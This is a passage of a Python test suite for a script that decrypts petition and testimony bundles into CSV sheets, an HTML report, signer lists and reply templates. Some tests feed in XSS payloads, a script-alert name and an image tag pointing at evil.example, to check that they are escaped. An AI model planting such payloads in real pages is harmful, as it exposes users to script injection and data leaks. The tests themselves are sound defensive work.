    out.mkdir()
    (out / "petition-sign.csv").write_text("earlier work")
    missing = tmp_path / "no-passphrase-here.txt"
    assert run(decrypt, [sample_bundle], organizer_key_file, out, passphrase_file=missing) == 2
    err = capsys.readouterr().err
    assert "already exists" in err
    assert "Unlocking" not in err


def test_the_report_counts_and_charts_the_answers_and_loads_nothing(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    records = [
        record(1, organizer_key, "petition", "sign", signer("Ada", areas_of_focus=["rights", "legal"]), locale="ko"),
        record(2, organizer_key, "petition", "sign", signer("Bea", areas_of_focus=["rights"]), locale="en"),
        record(3, organizer_key, "petition", "sign", signer("<script>alert(1)</script>"), received_on="2026-03-05"),
    ]
    definitions = json.loads(json.dumps(DEFINITIONS["petition"]))
    definitions["forms"][0]["fields"][0]["label"] = '<img src="http://evil.example/x">'
    path = tmp_path / "b.papillon"
    bundle.write(
        path,
        records,
        created_on="2026-03-05",
        key_ids=[public(organizer_key).key_id],
        campaigns={"petition": definitions},
    )
    out = tmp_path / "out"
    assert run_with(decrypt, [path], organizer_key_file, out) == 0
    report = (out / "report.html").read_text(encoding="utf-8")
    assert stat.S_IMODE((out / "report.html").stat().st_mode) == 0o600
    assert '<td>petition</td><td>sign</td><td class="n">3</td>' in report
    assert '<td>2026-03-04</td><td class="n">2</td>' in report
    assert '<td>2026-03-05</td><td class="n">1</td>' in report
    assert '<td>ko</td><td class="n">1</td>' in report
    assert report.count("<svg") == 3  # signing_as, areas_of_focus, province
    assert ">Workers&#x27; rights</text>" in report
    assert "<script" not in report
    assert "<img" not in report
    assert "alert(1)" not in report
    assert "&lt;img src=" in report  # the hostile label, shown as text
    assert re.search(r"<[a-z]+[^>]*\s(src|href)=", report) is None


@pytest.mark.browser
def test_the_report_opens_in_a_browser_with_its_charts_and_asks_for_nothing(
    browser, decrypt, sample_bundle, organizer_key_file, tmp_path
):
    out = tmp_path / "out"
    assert run_with(decrypt, [sample_bundle], organizer_key_file, out) == 0
    page = browser.new_page()
    requests, errors = [], []
    page.on("request", lambda r: requests.append(r.url))
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.goto((out / "report.html").as_uri())
    assert page.locator("svg rect").count() >= 3
    assert page.locator("h1").inner_text() == "Papillon report"
    assert requests == [(out / "report.html").as_uri()]
    assert errors == []
    page.close()


# --- what the run keeps, and the public list ----------------------------------------------------------------------


def published(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))["campaigns"]["petition"]


def test_a_consenting_signer_from_an_older_form_version_is_still_listed(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    older = record(1, organizer_key, "petition", "sign", signer("Ada", list_my_name=True), version=0)
    path = write_bundle(tmp_path / "b.papillon", [older], organizer_key)
    listed = tmp_path / "signers.json"
    assert run_with(decrypt, [path], organizer_key_file, tmp_path / "out", "--publish", str(listed)) == 0
    assert published(listed) == {"count": 1, "signers": [{"name": "Ada"}]}


def test_a_signer_from_before_a_question_changed_type_is_still_counted_and_listed(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    # Under version 0 the province question took several answers; it takes one now.
    older = signer("Ada", province=["on", "qc"], list_my_name=True)
    records = [
        record(1, organizer_key, "petition", "sign", older, version=0),
        record(2, organizer_key, "petition", "sign", {**older, "name": ""}, version=0),
    ]
    path = write_bundle(tmp_path / "b.papillon", records, organizer_key)
    listed = tmp_path / "signers.json"
    out = tmp_path / "out"
    assert run_with(decrypt, [path], organizer_key_file, out, "--publish", str(listed)) == 0
    assert published(listed) == {"count": 1, "signers": [{"name": "Ada"}]}  # the second has no name to show
    checks = [row[-2] for row in read_csv(out / "petition-sign.csv")[1:]]
    assert all("province: This answer must be text." in check for check in checks)


def test_the_public_count_is_one_per_person_and_leaves_out_answers_that_do_not_fit(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    records = [
        record(1, organizer_key, "petition", "sign", signer("Ada", email="ada@example.org")),
        record(2, organizer_key, "petition", "sign", signer("Ada", email="ada@example.org", list_my_name=True)),
        record(3, organizer_key, "petition", "sign", signer("Bea")),
        record(4, organizer_key, "petition", "sign", {"signing_as": "robot", "name": "Spam", "list_my_name": True}),
    ]
    path = write_bundle(tmp_path / "b.papillon", records, organizer_key)
    listed = tmp_path / "signers.json"
    assert run_with(decrypt, [path], organizer_key_file, tmp_path / "out", "--publish", str(listed)) == 0
    # Ada signed twice and agreed the second time: counted once, named; the record that does not fit is neither.
    assert published(listed) == {"count": 2, "signers": [{"name": "Ada"}]}


def test_salvage_names_the_damage_in_the_report_and_says_what_it_cannot_promise(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    path = write_bundle(tmp_path / "b.papillon", many(organizer_key, 3), organizer_key)
    path.write_bytes(path.read_bytes().replace(b'"received_on":"2026-03-04"', b'"received_on":"2020-01-01"', 1))
    out = tmp_path / "out"
    assert run_with(decrypt, [path], organizer_key_file, out) == 2
    assert run_with(decrypt, [path], organizer_key_file, out, "--salvage") == 1
    assert len(read_csv(out / "petition-sign.csv")) == 4  # the changed date still reads: the record opens
    summary = (out / "summary.txt").read_text()
    assert "checksum mismatch" in summary
    assert "date received and sealing path may have" in summary
    report = (out / "report.html").read_text()
    assert "Damaged bundle" in report
    assert "checksum mismatch" in report


def test_the_report_lists_what_did_not_open_and_why(decrypt, organizer_key, organizer_key_file, tmp_path):
    stranger = X25519PrivateKey.generate()
    records = [record(1, organizer_key, "petition", "sign", signer("Ada")), record(2, stranger, "petition", "sign", {})]
    path = write_bundle(tmp_path / "b.papillon", records, organizer_key)
    out = tmp_path / "out"
    assert run_with(decrypt, [path], organizer_key_file, out) == 1
    report = (out / "report.html").read_text()
    assert "Not opened" in report
    assert f"{2:032x} (petition/sign): the record is not sealed to key" in report


def test_a_record_not_sealed_to_the_key_names_the_keys_it_is_sealed_to(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    """A bundle that does not describe the keys (an older Papillon's) names them by key id."""
    stranger = X25519PrivateKey.generate()
    records = [record(1, organizer_key, "petition", "sign", signer("Ada")), record(2, stranger, "petition", "sign", {})]
    path = write_bundle(tmp_path / "b.papillon", records, organizer_key)
    assert run_with(decrypt, [path], organizer_key_file, tmp_path / "out") == 1
    assert f"it is sealed to {public(stranger).key_id}" in (tmp_path / "out" / "summary.txt").read_text()


def test_a_forged_name_or_fingerprint_in_the_header_changes_only_how_a_key_is_named(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    records = [record(n, organizer_key, "petition", "sign", signer(f"Signer {n}")) for n in (1, 2)]
    honest = public(organizer_key)
    forged = bundle.Key(honest.key_id, "someone else", honest.fingerprint[:20] + "0000 0000 0000 0000")
    path = tmp_path / "b.papillon"
    bundle.write(
        path,
        records,
        created_on="2026-03-05",
        key_ids=[honest.key_id],
        keys=[forged],
        campaigns={"petition": DEFINITIONS["petition"]},
    )
    out = tmp_path / "out"
    assert run_with(decrypt, [path], organizer_key_file, out) == 0
    rows = read_csv(out / "petition-sign.csv")
    assert [row[rows[0].index("Your name")] for row in rows[1:]] == ["Signer 1", "Signer 2"]


def test_a_record_not_sealed_to_the_key_names_its_keys_by_fingerprint_and_name_where_the_bundle_does(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    bo, unknown = X25519PrivateKey.generate(), X25519PrivateKey.generate()
    both = envelope.seal(envelope.plaintext({}, 1, "en"), [public(bo), public(unknown)], "petition", "sign")
    records = [
        record(1, organizer_key, "petition", "sign", signer("Ada")),
        record(2, bo, "petition", "sign", {}),
        dataclasses.replace(record(3, bo, "petition", "sign", {}), envelope=both.to_json()),
    ]
    described = [public(organizer_key), public(bo, "bo-2026")]
    path = write_bundle(tmp_path / "b.papillon", records, organizer_key, described)
    out = tmp_path / "out"
    assert run_with(decrypt, [path], organizer_key_file, out) == 1
    summary = (out / "summary.txt").read_text(encoding="utf-8")
    mine = f"not sealed to key {public(organizer_key).fingerprint} (organizer)"
    assert f"{2:032x} (petition/sign): the record is {mine}; it is sealed to {public(bo).fingerprint} (bo-2026)\n" in (
        summary
    )
    # Sealed to Bo's key, which the bundle describes, and to one it does not: named by its key id.
    shown = dict(sorted([(public(bo).key_id, f"{public(bo).fingerprint} (bo-2026)"), (public(unknown).key_id,) * 2]))
    assert f"{3:032x} (petition/sign): the record is {mine}; it is sealed to {', '.join(shown.values())}\n" in summary
    assert f"{public(bo).fingerprint} (bo-2026)" in (out / "report.html").read_text(encoding="utf-8")


def test_a_run_that_fails_part_way_keeps_nothing_and_says_so(
    decrypt, organizer_key, organizer_key_file, tmp_path, capsys, monkeypatch
):
    path = write_bundle(tmp_path / "b.papillon", many(organizer_key, 300), organizer_key)
    add, calls = decrypt.Writer.add, []

    def add_until_the_disk_fills(self, row):
        calls.append(row)
        if len(calls) == 200:
            raise OSError(28, "No space left on device")
        add(self, row)

    monkeypatch.setattr(decrypt.Writer, "add", add_until_the_disk_fills)
    out = tmp_path / "deep" / "out"
    assert run_with(decrypt, [path], organizer_key_file, out, "--jobs", "1") == 2
    assert "No space left on device" in capsys.readouterr().err
    assert not (tmp_path / "deep").exists()


def test_a_disk_that_fills_while_the_summary_is_written_keeps_no_part_of_it(
    decrypt, sample_bundle, organizer_key_file, tmp_path, capsys, monkeypatch
):
    real_open = open

    def filling(path, mode="r", *args, **kwargs):
        handle = real_open(path, mode, *args, **kwargs)
        if str(path).endswith("summary.txt"):
            handle.write = lambda text: (_ for _ in ()).throw(OSError(28, "No space left on device"))
        return handle

    monkeypatch.setattr("builtins.open", filling)
    out = tmp_path / "out"
    assert run_with(decrypt, [sample_bundle], organizer_key_file, out) == 2
    assert "No space left on device" in capsys.readouterr().err
    assert not out.exists()


def test_an_unexpected_error_keeps_nothing_and_exits_2(
    decrypt, sample_bundle, organizer_key_file, tmp_path, capsys, monkeypatch
):
    def broken(*args):
        raise RuntimeError("a bug")

    monkeypatch.setattr(decrypt, "write_report", broken)
    out = tmp_path / "out"
    assert run_with(decrypt, [sample_bundle], organizer_key_file, out) == 2
    assert "Nothing was kept" in capsys.readouterr().err
    assert not out.exists()


def test_an_output_folder_that_is_not_empty_is_refused(decrypt, sample_bundle, organizer_key_file, tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    assert run_with(decrypt, [sample_bundle], organizer_key_file, out) == 2
    assert "not empty" in capsys.readouterr().err
    assert [p.name for p in out.iterdir()] == ["notes.txt"]


def test_several_processes_open_records_where_processes_cannot_fork(organizer_key, organizer_key_file, tmp_path):
    path = write_bundle(tmp_path / "b.papillon", many(organizer_key, 40), organizer_key)
    site = tmp_path / "site"
    site.mkdir()
    # As on Windows, which cannot fork: the script must start its workers afresh and send them what they need.
    started = tmp_path / "interpreters"
    (site / "sitecustomize.py").write_text(
        "import multiprocessing\n"
        "multiprocessing.get_all_start_methods = lambda: ['spawn']\n"
        f"open({str(started)!r}, 'a').write('started\\n')\n"
    )
    out = tmp_path / "out"
    args = [*decrypt_args(path, organizer_key_file, out), "--jobs", "2"]
    result = subprocess.run(
        [sys.executable, "scripts/decrypt.py", *args],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(site)},
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert len(read_csv(out / "petition-sign.csv")) == 41
    assert started.read_text().count("started") == 4  # the script, its resource tracker, and each worker afresh


# --- who can be answered ----------------------------------------------------------------------------------------------

ANA, BO = replies.derive("7K2M9QXR4HBD0A1C5E6F8G9JTVWZ"), replies.derive("ZZZZZZZZZZZZZZZZZZZZZZZZZZZZ")
ANA_HANDLE, BO_HANDLE = replies.handle(ANA.lookup), replies.handle(BO.lookup)
TESTIMONY = {"what_happened": KOREAN, "may_share": True}


def follow_up(n: int, private: X25519PrivateKey, witness: replies.ReplyKeys, **kw) -> bundle.Record:
    answers = {replies.FOLLOW_UP_FIELD: f"Zqv follow-up {n}"}
    return record(n, private, replies.CAMPAIGN, replies.FOLLOW_UP, answers, reply=witness.member(), **kw)


@pytest.fixture
def answerable_bundle(tmp_path, organizer_key) -> Path:
    """Ana's testimony and a follow-up she wrote later, Bo's testimony, and a testimony that asked for no reply."""
    records = [
        record(1, organizer_key, "petition", "testimony", TESTIMONY, reply=ANA.member(), received_on="2026-03-02"),
        record(2, organizer_key, "petition", "testimony", TESTIMONY, reply=BO.member()),
        record(3, organizer_key, "petition", "testimony", TESTIMONY),
        follow_up(4, organizer_key, ANA, received_on="2026-03-05"),
    ]
    return write_bundle(tmp_path / "export.papillon", records, organizer_key)


def by_id(path: Path) -> dict[str, dict[str, str]]:
    header, *rows = read_csv(path)
    return {row[header.index("Record id")]: dict(zip(header, row, strict=True)) for row in rows}


def test_a_testimony_that_can_be_answered_shows_its_reply_handle(
    decrypt, answerable_bundle, organizer_key_file, tmp_path
):
    out = tmp_path / "out"
    assert run_with(decrypt, [answerable_bundle], organizer_key_file, out, "--jsonl") == 0
    rows = by_id(out / "petition-testimony.csv")
    handles = {rid: row["Reply handle"] for rid, row in rows.items()}
    assert handles == {f"{1:032x}": ANA_HANDLE, f"{2:032x}": BO_HANDLE, f"{3:032x}": ""}
    assert all(row["Check"] == "" for row in rows.values())
    lines = [json.loads(line) for line in (out / "petition-testimony.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [line["reply_handle"] for line in lines] == [ANA_HANDLE, BO_HANDLE, None]


def test_a_follow_up_opens_into_its_own_sheet_with_the_handle_of_the_testimony_it_follows(
    decrypt, answerable_bundle, organizer_key_file, tmp_path
):
    out = tmp_path / "out"
    assert run_with(decrypt, [answerable_bundle], organizer_key_file, out) == 0
    [row] = by_id(out / "replies-follow-up.csv").values()
    assert row["Your message"] == "Zqv follow-up 4"
    assert row["Reply handle"] == by_id(out / "petition-testimony.csv")[f"{1:032x}"]["Reply handle"]
    assert row["Check"] == ""  # checked against the follow-up form the header defines: it fits
    assert "replies-follow-up.csv: 1 row(s)" in (out / "summary.txt").read_text(encoding="utf-8")


def test_a_follow_up_that_does_not_fit_its_form_is_flagged_like_any_record(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    answers = {replies.FOLLOW_UP_FIELD: "x" * (replies.MESSAGE_MAX + 1), "extra": "Zqv"}
    path = write_bundle(
        tmp_path / "b.papillon",
        [record(1, organizer_key, replies.CAMPAIGN, replies.FOLLOW_UP, answers, reply=ANA.member())],
        organizer_key,
    )
    out = tmp_path / "out"
    assert run_with(decrypt, [path], organizer_key_file, out) == 0
    [row] = by_id(out / "replies-follow-up.csv").values()
    assert "message: " in row["Check"]
    assert "extra (no column): Zqv" in row["Check"]
    assert row["Reply handle"] == ANA_HANDLE


@pytest.mark.parametrize(
    "member",
    [
        {"lookup": "not hex", "public_key": base64.b64encode(bytes(32)).decode()},
        {"lookup": "a" * 32, "public_key": "c2hvcnQ="},
        {"lookup": "a" * 32},
        "a string",
    ],
    ids=["lookup", "public key", "member missing", "not an object"],
)
def test_a_malformed_reply_member_is_noted_and_every_record_still_opens(
    decrypt, organizer_key, organizer_key_file, tmp_path, capsys, member
):
    def sealed(answers: dict) -> bytes:
        """A document as a page of another make might seal it, whatever its reply member holds."""
        doc = {"answers": answers, "form_version": 1, "locale": "en", "reply": member}
        return envelope.pad(json.dumps(doc, ensure_ascii=False).encode())

    records = [
        record(1, organizer_key, "petition", "testimony", {}, data=sealed(TESTIMONY)),
        record(2, organizer_key, "petition", "testimony", TESTIMONY, reply=ANA.member()),
        record(3, organizer_key, "retired", "testimony", {}, data=sealed({"what_happened": "Zqv"})),
    ]
    path = write_bundle(tmp_path / "b.papillon", records, organizer_key)
    out = tmp_path / "out"
    assert run_with(decrypt, [path], organizer_key_file, out, "--jsonl") == 0
    rows = by_id(out / "petition-testimony.csv")
    assert rows[f"{1:032x}"]["Reply handle"] == ""
    assert "reply: " in rows[f"{1:032x}"]["Check"]
    assert "cannot be answered" in rows[f"{1:032x}"]["Check"]
    assert (rows[f"{2:032x}"]["Reply handle"], rows[f"{2:032x}"]["Check"]) == (ANA_HANDLE, "")
    [loose] = by_id(out / "retired-testimony.csv").values()  # a form the bundle does not define: noted too
    assert (loose["Reply handle"], "cannot be answered" in loose["Check"]) == ("", True)
    [line, _] = [json.loads(t) for t in (out / "petition-testimony.jsonl").read_text(encoding="utf-8").splitlines()]
    assert line["reply_handle"] is None
    assert any("cannot be answered" in note for note in line["check"])
    assert "(see the Check column): 2" in (out / "summary.txt").read_text(encoding="utf-8")
    assert "Opened 3 record(s); 0 could not be opened." in capsys.readouterr().out


def test_the_reply_template_lists_each_handle_once_with_an_empty_message(
    decrypt, answerable_bundle, organizer_key_file, tmp_path
):
    out = tmp_path / "out"
    assert run_with(decrypt, [answerable_bundle], organizer_key_file, out) == 0
    template = out / "reply-template.csv"
    data = template.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b"\r\n")
    assert stat.S_IMODE(template.stat().st_mode) == 0o600
    assert read_csv(template) == [
        ["handle", "campaign", "form", "received_on", "message"],
        [ANA_HANDLE, "petition", "testimony", "2026-03-02", ""],  # her testimony, not her later follow-up
        [BO_HANDLE, "petition", "testimony", "2026-03-04", ""],
    ]


def test_a_follow_up_alone_stands_for_its_witness_in_the_template(decrypt, organizer_key, organizer_key_file, tmp_path):
    path = write_bundle(tmp_path / "b.papillon", [follow_up(1, organizer_key, BO)], organizer_key)
    out = tmp_path / "out"
    assert run_with(decrypt, [path], organizer_key_file, out) == 0
    assert read_csv(out / "reply-template.csv")[1:] == [[BO_HANDLE, "replies", "follow-up", "2026-03-04", ""]]


def test_no_reply_template_when_no_record_can_be_answered(decrypt, sample_bundle, organizer_key_file, tmp_path, capsys):
    out = tmp_path / "out"
    assert run_with(decrypt, [sample_bundle], organizer_key_file, out) == 0
    assert not (out / "reply-template.csv").exists()
    assert "Records that can be answered (see the Reply handle column): 0\n" in (out / "summary.txt").read_text()
    assert "reply.py" not in capsys.readouterr().out


def test_the_summary_and_the_report_count_who_can_be_answered_and_point_to_reply_py(
    decrypt, answerable_bundle, organizer_key_file, tmp_path, capsys
):
    out = tmp_path / "out"
    assert run_with(decrypt, [answerable_bundle], organizer_key_file, out) == 0
    summary = (out / "summary.txt").read_text(encoding="utf-8")
    assert "Records that can be answered (see the Reply handle column): 3, from 2 witness(es)\n" in summary
    assert "reply-template.csv, then seal them with scripts/reply.py" in summary
    report = (out / "report.html").read_text(encoding="utf-8")
    assert "<th>Can be answered</th>" in report
    assert '<td>petition</td><td>testimony</td><td class="n">3</td><td class="n">2</td>' in report
    assert '<td>replies</td><td>follow-up</td><td class="n">1</td><td class="n">1</td>' in report
    printed = capsys.readouterr().out
    assert f"Wrote {out / 'reply-template.csv'}" in printed
    assert "scripts/reply.py" in printed


def test_a_form_whose_sheet_would_take_the_template_name_refuses_the_run_and_keeps_nothing(
    decrypt, organizer_key, organizer_key_file, tmp_path, capsys
):
    rec = record(1, organizer_key, "reply", "template", {"what_happened": "Zqv"}, reply=ANA.member())
    path = tmp_path / "b.papillon"
    bundle.write(path, [rec], created_on="2026-03-05", key_ids=[public(organizer_key).key_id], campaigns={})
    out = tmp_path / "out"
    assert_refused(run_with(decrypt, [path], organizer_key_file, out), capsys, out, "reply-template.csv")
    assert not out.exists()
